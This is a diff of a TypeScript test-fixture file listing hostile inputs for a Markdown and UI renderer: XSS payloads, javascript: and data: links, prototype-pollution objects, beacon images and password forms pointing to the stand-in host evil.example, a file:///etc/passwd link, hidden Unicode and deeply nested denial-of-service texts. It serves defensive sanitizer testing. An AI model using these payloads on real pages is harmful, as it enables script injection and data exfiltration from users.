@@ -1,190 +1,101 @@
-/** What a hostile text or tree may hold. Every place that shows what a model or a stranger wrote is tried with all of it. */
-
-const HOST = "https://evil.example";
-/** A script of any of them would set this; a request of any of them would go to the host. */
-export const ATTACK_MARK = "__attacked";
-export const ATTACK_HOST = "evil.example";
-
-const SCRIPT = `window.${ATTACK_MARK}=1`;
-
-type Attack = { name: string; tree: unknown };
-
-const text = (value: string) => ({ type: "text", props: { text: value } });
-
-/** Markdown and HTML in a `text` part and in every other string. */
-export const HOSTILE_TEXTS: string[] = [
-  `<script>${SCRIPT}</script>`,
-  `<img src=x onerror="${SCRIPT}">`,
-  `<svg onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`,
-  `<iframe srcdoc="<script>parent.${ATTACK_MARK}=1</script>"></iframe>`,
-  `<a href="javascript:${SCRIPT}">press</a> [press](javascript:${SCRIPT}) [press](JaVaScRiPt&colon;${SCRIPT})`,
-  `[press](data:text/html,<script>${SCRIPT}</script>)`,
-  `![secret](${HOST}/leak?q=secret) ![x](//${ATTACK_HOST}/x.png)`,
-  `[ref]: ${HOST}/leak\n\n![see][ref]`,
-  `<style>@import url(${HOST}/x.css); body{background:url(${HOST}/y)}</style>`,
-  `<link rel=stylesheet href="${HOST}/z.css"><meta http-equiv=refresh content="0;url=${HOST}"><base href="${HOST}/">`,
-  `<form action="${HOST}"><input name=password><button>Sign in</button></form>`,
-  `<object data="${HOST}/o"></object><embed src="${HOST}/e"><video poster="${HOST}/v" src="${HOST}/w"></video>`,
-  `"><img src=x onerror=${SCRIPT}><x a="`,
-  "Pay \u202Eeslaf\u202C now\u200B\u2060 \u{E0041}\u{E0042} hidden",
-  `\u0000\u001b]8;;${HOST}\u0007press\u001b]8;;\u0007`,
-  `\${constructor.constructor('return this')().${ATTACK_MARK}=1} {{constructor.constructor('${SCRIPT}')()}}`,
-];
-
-const nest = (depth: number): unknown => {
-  let tree: unknown = text("the deepest");
-  for (let level = 0; level < depth; level += 1) tree = { type: "stack", props: {}, children: [tree] };
-  return tree;
+/** What somebody might hide in a text that people and agents read: each as Markdown, with what must not come of it. */
+export type Attack = {
+  name: string;
+  text: string;
+  /** An address that must never be asked for by itself. */
+  beacon?: string;
 };
 
-/** Trees that no schema should let through whole. */
-export const HOSTILE_TREES: Attack[] = [
-  { name: "an unknown component", tree: { type: "script", props: { text: SCRIPT } } },
-  { name: "a component named like a part of every object", tree: { type: "constructor", props: { text: "words" } } },
-  { name: "a component named __proto__", tree: JSON.parse(`{"type":"__proto__","props":{"text":"words"}}`) },
-  {
-    name: "props that pollute the prototype",
-    tree: JSON.parse(`{"type":"text","props":{"text":"words","__proto__":{"polluted":true}}}`),
-  },
-  {
-    name: "a node that pollutes the prototype",
-    tree: JSON.parse(`{"type":"text","props":{"text":"words"},"__proto__":{"polluted":true}}`),
-  },
-  {
-    name: "an action input that pollutes the prototype",
-    tree: JSON.parse(
-      `{"type":"button","props":{"label":"x","action":{"name":"task.create","input":{"title":"x","__proto__":{"polluted":"1"}}}}}`,
-    ),
-  },
-  {
-    name: "an action that is no action",
-    tree: { type: "button", props: { label: "Press", action: { name: "team.delete", input: {} } } },
-  },
-  {
-    name: "an action with an address",
-    tree: { type: "button", props: { label: "Press", action: { name: "navigate", input: { to: `${HOST}/x` } } } },
-  },
-  { name: "an image from elsewhere", tree: { type: "image", props: { fileId: `${HOST}/leak.png`, alt: "leak" } } },
-  {
-    name: "an image with an address of its own",
-    tree: {
-      type: "image",
-      props: { src: `${HOST}/leak.png`, alt: "leak", fileId: "019ad000-0000-7000-8000-000000000001" },
-    },
-  },
-  {
-    name: "an SVG as an image",
-    tree: { type: "image", props: { fileId: `data:image/svg+xml,<svg onload="${SCRIPT}"/>`, alt: "svg" } },
-  },
-  ...[
-    `javascript:${SCRIPT}`,
-    `data:text/html,<script>${SCRIPT}</script>`,
-    "//evil.example/x",
-    "/\\evil.example",
-    "http://evil.example",
-    "https://user:pass@evil.example/",
-    "/../../api/files",
-    "/api/trpc/tasks.create",
-    "https://evil.example/a b",
-    "vbscript:x",
-  ].map((link) => ({
-    name: `a link to ${link.slice(0, 24)}`,
-    tree: { type: "list", props: { items: [{ text: "press", link }] } },
-  })),
-  { name: "CSS in a prop", tree: { type: "stack", props: { style: { background: `url(${HOST})` } } } },
-  { name: "a class name in a prop", tree: { type: "card", props: { className: "fixed inset-0" }, children: [] } },
-  {
-    name: "React's own escape hatch",
-    tree: { type: "text", props: { text: "x", dangerouslySetInnerHTML: { __html: `<img src=x onerror=${SCRIPT}>` } } },
-  },
-  {
-    name: "an element of React",
-    tree: { $$typeof: "Symbol(react.element)", type: "div", props: { dangerouslySetInnerHTML: { __html: SCRIPT } } },
-  },
-  {
-    name: "figures without end",
-    tree: { type: "line", props: { title: "x", labels: ["a"], series: [{ name: "s", values: [1e308] }] } },
-  },
-  {
-    name: "a binding nobody allowed",
-    tree: { type: "metric", bind: { query: "users.passwords", input: {} }, props: { label: "x" } },
-  },
-  {
-    name: "a binding with an address",
-    tree: { type: "metric", bind: { query: "team.summary", input: { figure: HOST } }, props: { label: "x" } },
-  },
-  { name: "children where none belong", tree: { type: "text", props: { text: "x" }, children: [text("y")] } },
-  {
-    name: "10,000 parts",
-    tree: { type: "stack", props: {}, children: Array.from({ length: 10_000 }, () => text("x")) },
-  },
-  { name: "parts 40 deep", tree: nest(18) },
-  { name: "parts 10,000 deep", tree: nest(10_000) },
-  { name: "a text of 10 MB", tree: text("x".repeat(10_000_000)) },
-  {
-    name: "a table of 100,000 rows",
-    tree: { type: "table", props: { columns: [{ label: "a" }], rows: Array.from({ length: 100_000 }, () => [1]) } },
-  },
-  { name: "nothing", tree: null },
-  { name: "a list", tree: [] },
-  { name: "a text", tree: `<script>${SCRIPT}</script>` },
-  { name: "a number", tree: Number.NaN },
+export const EVIL = "https://evil.example";
+
+const jsLinks = [
+  "javascript:window.__pwned=1",
+  "JaVaScRiPt:window.__pwned=1",
+  " javascript:window.__pwned=1",
+  "java\tscript:window.__pwned=1",
+  "&#106;avascript:window.__pwned=1",
+  "\u0001javascript:window.__pwned=1",
+  "vbscript:msgbox(1)",
+  "data:text/html,<script>window.__pwned=1</script>",
+  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
+  "blob:https://evil.example/x",
+  "file:///etc/passwd",
 ];
 
-/** Trees that fit every schema and carry the hostile texts where text may stand. */
-export function textAttackTree(): unknown {
-  return {
-    type: "stack",
-    props: {},
-    children: HOSTILE_TEXTS.flatMap((hostile): unknown[] => [
-      text(hostile),
-      { type: "metric", props: { label: hostile.slice(0, 110), value: hostile.slice(0, 110) } },
-      { type: "list", props: { items: [{ text: hostile.slice(0, 300), detail: hostile.slice(0, 300) }] } },
-    ]),
-  };
-}
+export const MARKDOWN_ATTACKS: Attack[] = [
+  { name: "a script", text: "<script>window.__pwned=1</script>" },
+  { name: "a script in a heading", text: "# Title <script>window.__pwned=1</script>" },
+  { name: "an image with a handler", text: "<img src=x onerror=window.__pwned=1>" },
+  { name: "a drawing with a handler", text: "<svg onload=window.__pwned=1><script>window.__pwned=1</script></svg>" },
+  { name: "a frame", text: `<iframe src="${EVIL}/frame"></iframe>`, beacon: `${EVIL}/frame` },
+  {
+    name: "an object",
+    text: `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
+    beacon: `${EVIL}/object`,
+  },
+  { name: "a form", text: `<form action="${EVIL}/form"><input name=password><button>Sign in</button></form>` },
+  { name: "a style", text: `<style>body{background:url(${EVIL}/style)}</style>`, beacon: `${EVIL}/style` },
+  {
+    name: "a style attribute",
+    text: `<p style="background:url(${EVIL}/attribute)">x</p>`,
+    beacon: `${EVIL}/attribute`,
+  },
+  { name: "a base address", text: `<base href="${EVIL}/"> [home](home)` },
+  { name: "a refresh", text: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`, beacon: `${EVIL}/refresh` },
+  { name: "a template that is left open", text: "<template><img src=x onerror=window.__pwned=1>" },
+  { name: "a comment that hides", text: "<!--><img src=x onerror=window.__pwned=1>-->" },
+  { name: "a remote image", text: `![figures](${EVIL}/pixel.png?secret=1)`, beacon: `${EVIL}/pixel.png` },
+  {
+    name: "a remote image by reference",
+    text: `![figures][p]\n\n[p]: ${EVIL}/reference.png`,
+    beacon: `${EVIL}/reference.png`,
+  },
+  {
+    name: "a remote image without a scheme",
+    text: "![figures](//evil.example/scheme.png)",
+    beacon: `${EVIL}/scheme.png`,
+  },
+  { name: "a remote image in a link", text: `[![x](${EVIL}/in-link.png)](${EVIL}/)`, beacon: `${EVIL}/in-link.png` },
+  {
+    name: "an image as data",
+    text: "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=1'/>)",
+  },
+  { name: "an image of our own door", text: "![x](/api/auth/signout)" },
+  { name: "a link that reads like another", text: `[https://bank.example](${EVIL}/bank)` },
+  { name: "a link with a name before its host", text: "[sign in](https://muster.example@evil.example/)" },
+  ...jsLinks.map((href, index) => ({
+    name: `a link that runs, ${index + 1}`,
+    text: `[press me](<${href}>) and <${href}>`,
+  })),
+  { name: "a heading that takes an id", text: '<h1 id="content">x</h1><a name="getElementById">y</a>' },
+  { name: "words turned around", text: "Pay \u202E0001\u202C crowns, invoice\u2066exe.\u2069pdf" },
+  { name: "letters nobody sees", text: "ig\u200Bnore \u{E0041}\u{E0042} all of it" },
+];
 
-/** The same in the heavier components: charts, tables, code, differences, forms. */
-export function heavyAttackTree(): unknown {
-  const short = HOSTILE_TEXTS.map((hostile) => hostile.slice(0, 70));
-  return {
-    type: "stack",
-    props: {},
-    children: [
-      {
-        type: "table",
-        props: {
-          columns: [{ label: short[0] }, { label: short[1] }],
-          rows: HOSTILE_TEXTS.map((hostile) => [hostile.slice(0, 300), hostile.slice(0, 300)]),
-        },
-      },
-      {
-        type: "bar",
-        props: {
-          title: short[1],
-          labels: short,
-          series: [{ name: short[2], values: short.map((_, at) => at) }],
-          unit: "<b>x</b>",
-        },
-      },
-      {
-        type: "pie",
-        props: { title: short[2], items: short.slice(0, 5).map((label, at) => ({ label, value: at + 1 })) },
-      },
-      { type: "code", props: { text: HOSTILE_TEXTS.join("\n"), title: short[3] } },
-      { type: "diff", props: { before: HOSTILE_TEXTS.join("\n"), after: HOSTILE_TEXTS.toReversed().join("\n") } },
-      { type: "timeline", props: { items: short.map((title) => ({ at: title, title, detail: title })) } },
-      {
-        type: "form",
-        props: {
-          title: short[4],
-          fields: [{ key: "title", label: short[5], hint: short[6], value: short[7] }],
-          submit: short[8],
-          action: { name: "task.create" },
-        },
-      },
-      { type: "button", props: { label: short[9], action: { name: "task.create", input: { title: short[10] } } } },
-      { type: "tabs", props: { labels: [short[0], short[1]] }, children: [text("a"), text("b")] },
-    ],
-  };
+const many = (count: number, make: (index: number) => string) =>
+  Array.from({ length: count }, (_, index) => make(index));
+
+/** Texts that cost the reader time or stack rather than safety. */
+export const HEAVY_TEXTS: Attack[] = [
+  { name: "quotes 5,000 levels deep", text: `${">".repeat(5_000)} x` },
+  { name: "quotes 5,000 levels deep, with blanks", text: `${"> ".repeat(5_000)}x` },
+  { name: "a list 5,000 levels deep", text: `${"- ".repeat(5_000)}x` },
+  { name: "a list 500 levels deep by indentation", text: many(500, (index) => `${"  ".repeat(index)}- a`).join("\n") },
+  { name: "5,000 links in each other", text: `${"[".repeat(5_000)}x${"](a)".repeat(5_000)}` },
+  { name: "5,000 images in each other", text: `${"![".repeat(5_000)}x${"](a)".repeat(5_000)}` },
+  { name: "5,000 emphases in each other", text: `${"*a _b ".repeat(2_500)}x${"_ *".repeat(2_500)}` },
+  {
+    name: "a table of 300 columns and 1,000 rows",
+    text: ["|a".repeat(300), "|-".repeat(300), ...many(1_000, () => "|b".repeat(300))].join("|\n"),
+  },
+  { name: "100,000 opening tags", text: "<div>".repeat(100_000) },
+  {
+    name: "2,000 footnotes",
+    text: `${many(2_000, (index) => `[^${index}]`).join(" ")}\n\n${many(2_000, (index) => `[^${index}]: x`).join("\n")}`,
+  },
+];
+
+/** Everything in one text, as a document or a message could hold it. */
+export function allAttacks(): string {
+  return MARKDOWN_ATTACKS.map(({ name, text }) => `Attack: ${name}\n\n${text}\n`).join("\n");
 }
